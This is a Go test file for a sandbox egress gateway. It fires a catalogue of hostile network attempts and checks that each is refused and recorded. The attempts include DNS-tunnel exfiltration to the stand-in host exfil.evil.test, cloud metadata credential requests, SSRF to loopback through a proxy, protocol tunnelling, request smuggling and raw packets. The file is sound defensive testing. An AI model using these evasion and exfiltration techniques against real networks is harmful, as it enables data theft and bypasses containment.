package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/waxseal/waxseal/attestations"
	"github.com/waxseal/waxseal/pkg/attest"
)

// say sends text from inside a step and returns what comes back.
func say(s *Step, addr, text string) string {
	c, err := dialer(s)(context.Background(), "tcp", addr)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(c, text)
	b, _ := io.ReadAll(io.LimitReader(c, 4096))
	return string(b)
}

// sayTLS does so inside TLS.
func sayTLS(s *Step, addr string, cfg *tls.Config, text string) string {
	c, err := dialer(s)(context.Background(), "tcp", addr)
	if err != nil {
		return err.Error()
	}
	return overTLS(c, cfg, text)
}

func overTLS(c net.Conn, cfg *tls.Config, text string) string {
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	tc := tls.Client(c, cfg)
	if err := tc.Handshake(); err != nil {
		return err.Error()
	}
	io.WriteString(tc, text)
	b, _ := io.ReadAll(io.LimitReader(tc, 4096))
	return string(b)
}

// tunnel asks the proxy for a tunnel and hands it over.
func tunnel(s *Step, to string, then func(net.Conn) string) string {
	c, err := dialer(s)(context.Background(), "tcp", "127.0.0.1:3128")
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", to, to)
	r := bufio.NewReader(c)
	resp, err := http.ReadResponse(r, &http.Request{Method: http.MethodConnect})
	if err != nil {
		return err.Error()
	}
	if resp.StatusCode != http.StatusOK {
		return resp.Status
	}
	return then(c)
}

func question(s *Step, network, server, name string, qtype uint16) (*dns.Msg, error) {
	var m dns.Msg
	m.SetQuestion(dns.Fqdn(name), qtype)
	c, err := dialer(s)(context.Background(), network, server)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	dc := &dns.Conn{Conn: c}
	if err := dc.WriteMsg(&m); err != nil {
		return nil, err
	}
	return dc.ReadMsg()
}

// send writes a raw packet from inside a step.
func send(s *Step, domain, proto int, to unix.Sockaddr, b []byte) error {
	return inside(s, func() error {
		fd, err := unix.Socket(domain, unix.SOCK_RAW, proto)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return unix.Sendto(fd, b, 0, to)
	})
}

// TestHostileClients tries what must not work. Each attempt must leave the
// refusal, and nothing may reach the outside.
func TestHostileClients(t *testing.T) {
	t.Parallel()
	reached := make(chan string, 100)
	w := newWorld(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached <- r.Host + r.URL.String()
		io.WriteString(w, "the outside")
	}))
	const over = "GET / HTTP/1.1\r\nHost: files.test\r\nConnection: close\r\n\r\n"
	insecure := func(name string, alpn ...string) *tls.Config {
		return &tls.Config{ServerName: name, NextProtos: alpn, InsecureSkipVerify: true}
	}
	tests := []struct {
		name      string
		do        func(s *Step) string
		kind      string
		dest      string
		technique string
		reason    string
	}{
		{"raw TCP to another port", func(s *Step) string { return say(s, "files.test:22", "x") }, "tcp", "files.test:22", "", ""},
		{"raw TCP to an address", func(s *Step) string { return say(s, "203.0.113.7:4444", "x") }, "tcp", "203.0.113.7:4444", "", ""},
		{"DNS over TLS", func(s *Step) string { return say(s, "9.9.9.9:853", "x") }, "tcp", "9.9.9.9:853", "T1071.004", ""},
		{"the host's loopback", func(s *Step) string { return say(s, "127.0.0.1:"+port(w.http.Listener.Addr()), over) }, "tcp", "127.0.0.1:" + port(w.http.Listener.Addr()), "", "nobody listens"},
		{"SSH on port 80", func(s *Step) string { return say(s, "files.test:80", "SSH-2.0-OpenSSH\r\n") }, "http", "files.test:80", "T1572", "SSH"},
		{"HTTP on port 443", func(s *Step) string { return say(s, "files.test:443", over) }, "tls", "files.test:443", "T1572", "no TLS"},
		{"SOCKS to the proxy", func(s *Step) string { return say(s, "127.0.0.1:3128", "\x05\x01\x00") }, "http", "the proxy", "T1572", "SOCKS5"},
		{"TLS without HTTP inside", func(s *Step) string { return sayTLS(s, "files.test:443", insecure("files.test"), "SSH-2.0-x\r\n") }, "http", "files.test:443", "T1572", "inside TLS"},
		{"TLS for another protocol", func(s *Step) string { return sayTLS(s, "files.test:443", insecure("files.test", "xmpp-client"), "x") }, "tls", "files.test:443", "T1572", "xmpp"},
		{"Host that is not the SNI", func(s *Step) string { return sayTLS(s, "files.test:443", insecure("other.test"), over) }, "http", "other.test:443", "T1090.004", "files.test"},
		{"SNI that is not the tunnel's", func(s *Step) string {
			return tunnel(s, "other.test:443", func(c net.Conn) string { return overTLS(c, insecure("files.test"), over) })
		}, "tls", "other.test:443", "T1090.004", "files.test"},
		{"CONNECT to carry SSH", func(s *Step) string {
			return tunnel(s, "files.test:22", func(c net.Conn) string {
				io.WriteString(c, "SSH-2.0-x\r\n")
				b, _ := io.ReadAll(c)
				return string(b)
			})
		}, "http", "files.test:22", "T1572", "SSH"},
		{"CONNECT inside CONNECT", func(s *Step) string {
			return tunnel(s, "files.test:80", func(c net.Conn) string {
				io.WriteString(c, "CONNECT other.test:80 HTTP/1.1\r\nHost: other.test:80\r\nConnection: close\r\n\r\n")
				b, _ := io.ReadAll(c)
				return string(b)
			})
		}, "http", "files.test:80", "T1572", "CONNECT"},
		{"a web socket", func(s *Step) string {
			return say(s, "files.test:80", "GET / HTTP/1.1\r\nHost: files.test\r\nConnection: upgrade, close\r\nUpgrade: websocket\r\n\r\n")
		}, "http", "files.test:80", "T1572", "websocket"},
		{"the metadata service", func(s *Step) string {
			return say(s, "169.254.169.254:80", "GET /latest HTTP/1.0\r\n\r\n")
		}, "policy", "169.254.169.254:80", "T1552.005", "metadata"},
		{"the metadata service by proxy", func(s *Step) string {
			return say(s, "127.0.0.1:3128", "GET http://169.254.169.254/latest HTTP/1.0\r\n\r\n")
		}, "policy", "169.254.169.254:80", "T1552.005", "metadata"},
		{"this machine by proxy", func(s *Step) string {
			return say(s, "127.0.0.1:3128", "GET http://127.0.0.1:"+port(w.http.Listener.Addr())+"/ HTTP/1.0\r\n\r\n")
		}, "policy", "127.0.0.1:" + port(w.http.Listener.Addr()), "", "loopback"},
		{"this machine in disguise", func(s *Step) string {
			return say(s, "127.0.0.1:3128", "GET http://2130706433/ HTTP/1.0\r\n\r\n")
		}, "http", "2130706433", "", "neither a name nor an address"},
		{"this machine as IPv6", func(s *Step) string {
			return say(s, "127.0.0.1:3128", "GET http://[::ffff:127.0.0.1]/ HTTP/1.0\r\n\r\n")
		}, "policy", "127.0.0.1:80", "", "loopback"},
		{"localhost by proxy", func(s *Step) string {
			return say(s, "127.0.0.1:3128", "GET http://localhost/ HTTP/1.0\r\n\r\n")
		}, "policy", "localhost:80", "", "this machine"},
		{"FTP by proxy", func(s *Step) string {
			return say(s, "127.0.0.1:3128", "GET ftp://files.test/x HTTP/1.0\r\n\r\n")
		}, "http", "files.test", "", "ftp"},
		{"a request to the proxy itself", func(s *Step) string { return say(s, "127.0.0.1:3128", "GET / HTTP/1.0\r\n\r\n") }, "http", "the proxy", "", "proxy itself"},
		{"a header too large", func(s *Step) string {
			return say(s, "files.test:80", "GET / HTTP/1.1\r\nHost: files.test\r\nX: "+strings.Repeat("x", 200<<10)+"\r\n\r\n")
		}, "http", "files.test:80", "", "431"},
		{"a URL too long", func(s *Step) string {
			return say(s, "files.test:80", "GET /"+strings.Repeat("x", 10<<10)+" HTTP/1.1\r\nHost: files.test\r\nConnection: close\r\n\r\n")
		}, "http", "files.test:80", "", "URL"},
		{"two lengths", func(s *Step) string {
			return say(s, "files.test:80", "POST / HTTP/1.1\r\nHost: files.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx")
		}, "http", "files.test:80", "", "400"},
		{"UDP", func(s *Step) string { return sayUDP(s, "files.test:9999") }, "udp", "files.test:9999", "", ""},
		{"QUIC", func(s *Step) string { return sayUDP(s, "files.test:443") }, "udp", "files.test:443", "", "QUIC"},
		{"WireGuard", func(s *Step) string { return sayUDP(s, "203.0.113.7:51820") }, "udp", "203.0.113.7:51820", "T1572", ""},
		{"IPv6 TCP", func(s *Step) string { return say(s, "[2001:db8::7]:443", "x") }, "tcp", "[2001:db8::7]:443", "", "IPv6"},
		{"IPv6 UDP", func(s *Step) string { return sayUDP(s, "[2001:db8::7]:53") }, "udp", "[2001:db8::7]:53", "T1071.004", ""},
		{"a ping", func(s *Step) string {
			return fmt.Sprint(send(s, unix.AF_INET, unix.IPPROTO_ICMP, &unix.SockaddrInet4{Addr: [4]byte{203, 0, 113, 7}}, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}))
		}, "icmp", "203.0.113.7", "T1095", "ping"},
		{"a tunnel of another IP protocol", func(s *Step) string {
			return fmt.Sprint(send(s, unix.AF_INET, unix.IPPROTO_GRE, &unix.SockaddrInet4{Addr: [4]byte{203, 0, 113, 7}}, make([]byte, 16)))
		}, "ip", "203.0.113.7", "T1572", "GRE"},
		{"a TCP segment of no connection", func(s *Step) string {
			b, _ := hex.DecodeString("04d2ffff" + "00000001" + "00000000" + "5001" + "0100" + "0000" + "0000")
			return fmt.Sprint(send(s, unix.AF_INET, unix.IPPROTO_TCP, &unix.SockaddrInet4{Addr: [4]byte{203, 0, 113, 7}}, b))
		}, "tcp", "203.0.113.7:65535", "T1095", "no connection"},
		{"a DNS tunnel by TXT", func(s *Step) string {
			m, err := question(s, "udp", "8.8.8.8:53", "exfil.evil.test", dns.TypeTXT)
			if err != nil {
				return err.Error()
			}
			return fmt.Sprint(m.Rcode, m.Answer)
		}, "dns", "exfil.evil.test TXT", "T1071.004", ""},
		{"a DNS tunnel by labels", func(s *Step) string {
			m, err := question(s, "tcp", "1.1.1.1:53", "mzxw6ytboi2dcmrrgq3tonzxhe3demrsgmztgnbv.evil.test", dns.TypeA)
			if err != nil {
				return err.Error()
			}
			return fmt.Sprint(m.Rcode)
		}, "dns", "mzxw6ytboi2dcmrrgq3tonzxhe3demrsgmztgnbv.evil.test A", "T1071.004", ""},
		{"no DNS on port 53", func(s *Step) string { return say(s, "8.8.8.8:53", "\x00\x05hello") }, "dns", "port 53", "T1071.004", ""},
		{"a client that does not trust the gateway", func(s *Step) string {
			return sayTLS(s, "files.test:443", &tls.Config{ServerName: "files.test"}, over)
		}, "tls", "files.test:443", "", "$JAVA_TOOL_OPTIONS"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := open(t, w.gateway(t, Options{}), StepOptions{})
			answer := tt.do(s)
			if strings.Contains(answer, "the outside") {
				t.Errorf("reached the outside: %s", answer)
			}
			rec := end(t, s)
			if !hasRefusal(rec, tt.kind, tt.dest, tt.technique, tt.reason) {
				t.Errorf("no refusal %s %s %s %q in %+v; the client got %q", tt.kind, tt.dest, tt.technique, tt.reason, rec.Refusals, answer)
			}
			if len(rec.Requests) != 0 || len(rec.Gaps) != 0 {
				t.Errorf("recorded %+v", rec)
			}
		})
	}
	t.Cleanup(func() {
		if len(reached) > 0 {
			t.Errorf("the outside was asked for %s", <-reached)
		}
	})
}

func hasRefusal(rec *attestations.InputStep, kind, dest, technique, reason string) bool {
	for _, r := range rec.Refusals {
		if r.Kind == kind && r.Destination == dest && r.Technique == technique && strings.Contains(r.Reason, reason) && r.Count > 0 {
			return true
		}
	}
	return false
}

func port(a net.Addr) string {
	_, p, _ := net.SplitHostPort(a.String())
	return p
}

func sayUDP(s *Step, addr string) string {
	c, err := dialer(s)(context.Background(), "udp", addr)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_, err = io.WriteString(c, "x")
	return fmt.Sprint(err)
}

func TestKnockingOnPorts(t *testing.T) {
	s := open(t, newWorld(t, http.NotFoundHandler()).gateway(t, Options{}), StepOptions{})
	for _, p := range []int{7000, 8000, 9000, 7777} {
		say(s, fmt.Sprintf("203.0.113.7:%d", p), "")
	}
	if rec := end(t, s); !hasRefusal(rec, "tcp", "203.0.113.7:7777", "T1205", "") {
		t.Errorf("refusals %+v", rec.Refusals)
	}
}

func TestNothingPassesInModeNone(t *testing.T) {
	w := newWorld(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("asked") }))
	g := w.gateway(t, Options{Mode: attestations.InputsNone})
	s := open(t, g, StepOptions{})
	say(s, "files.test:80", "GET / HTTP/1.0\r\n\r\n")
	say(s, "files.test:443", "x")
	say(s, "127.0.0.1:3128", "GET http://files.test/ HTTP/1.0\r\n\r\n")
	rec := end(t, s)
	if rec.Verdict != attestations.VerdictIsolated || len(rec.Requests) != 0 {
		t.Errorf("recorded %+v", rec)
	}
	for _, want := range [][2]string{{"tcp", "files.test:80"}, {"tcp", "files.test:443"}, {"dns", "files.test A"}} {
		if !hasRefusal(rec, want[0], want[1], "", "") {
			t.Errorf("no refusal %v in %+v", want, rec.Refusals)
		}
	}
	if fmt.Sprint(rec.Names) != "[files.test]" {
		t.Errorf("names %v", rec.Names)
	}
	if why := g.Refuses(&attestations.InputStep{Requests: []attestations.InputRequest{{URI: "http://files.test/"}}}); len(why) != 1 {
		t.Errorf("a recorded step with requests may be reused: %v", why)
	}
	if why := g.Refuses(rec); len(why) != 0 {
		t.Errorf("an isolated step may not be reused: %v", why)
	}
}

// TestALoudStepIsBounded floods the record from a step.
func TestALoudStepIsBounded(t *testing.T) {
	s := open(t, newWorld(t, http.NotFoundHandler()).gateway(t, Options{}), StepOptions{})
	err := inside(s, func() error {
		c, err := net.ListenPacket("udp4", "127.0.0.1:0")
		if err != nil {
			return err
		}
		defer c.Close()
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		for i := range 3000 {
			if err := unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Addr: [4]byte{203, 0, byte(i >> 8), byte(i)}, Port: 1000}); err != nil && err != unix.ECONNREFUSED {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := end(t, s)
	if len(rec.Refusals) > 1024 {
		t.Errorf("%d refusals", len(rec.Refusals))
	}
	n := 0
	for _, r := range rec.Refusals {
		n += r.Count
	}
	if n != 3000 && len(rec.Gaps) == 0 {
		t.Errorf("%d packets counted of 3000, and no gap says so", n)
	}
	if !hasRefusal(rec, "udp", "(more)", "", "further") {
		t.Error("nothing says that there were more")
	}
}

// TestLossIsAGap: what the watch could not look at is said to be missing.
func TestLossIsAGap(t *testing.T) {
	s := open(t, newWorld(t, http.NotFoundHandler()).gateway(t, Options{}), StepOptions{})
	s.watch.sock.stop() // nobody reads: the queue fills
	err := inside(s, func() error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		for range 100_000 {
			if err := unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Addr: [4]byte{203, 0, 113, 7}, Port: 1000}); err != nil && err != unix.ECONNREFUSED {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := end(t, s)
	if len(rec.Gaps) != 1 || rec.Gaps[0].Kind != "watch-loss" || rec.Verdict != attestations.VerdictGaps {
		t.Errorf("recorded %+v", rec)
	}
	if !hasRefusal(rec, "udp", "203.0.113.7:1000", "", "") {
		t.Errorf("refusals %+v", rec.Refusals)
	}
}

// TestARecordIsBoundedInBytes: a few long URLs fill a record as many short ones
// do, and what no longer fits is refused and said.
func TestARecordIsBoundedInBytes(t *testing.T) {
	g := newWorld(t, &site{}).gateway(t, Options{})
	const asked = 300                                         // by each of two steps
	long := "http://files.test/?" + strings.Repeat("&", 8000) // six bytes each in JSON
	var all []*attestations.InputStep
	for range 2 {
		s := open(t, g, StepOptions{Fetch: true})
		for i := range asked {
			if status, _, _, err := fetch(t, s, "GET", fmt.Sprint(long, i), ""); err != nil || status != 200 && status != 503 {
				t.Fatalf("request %d: %d %v", i, status, err)
			}
		}
		all = append(all, end(t, s))
	}
	raw, err := json.Marshal(all)
	if err != nil || len(raw) > attest.MaxStatement {
		t.Errorf("a record of %d bytes, %v", len(raw), err)
	}
	if all[0].Verdict != attestations.VerdictRecorded || len(all[0].Requests) != asked {
		t.Errorf("the first step: %s, %d requests", all[0].Verdict, len(all[0].Requests))
	}
	second := all[1]
	if second.Verdict != attestations.VerdictGaps || len(second.Gaps) != 1 || second.Gaps[0].Kind != "overflow" {
		t.Errorf("the second step: %s, %+v", second.Verdict, second.Gaps)
	}
	if len(second.Refusals) != 1 || len(second.Requests)+second.Refusals[0].Count != asked {
		t.Errorf("%d requests and %+v, %d were asked", len(second.Requests), second.Refusals, asked)
	}
}
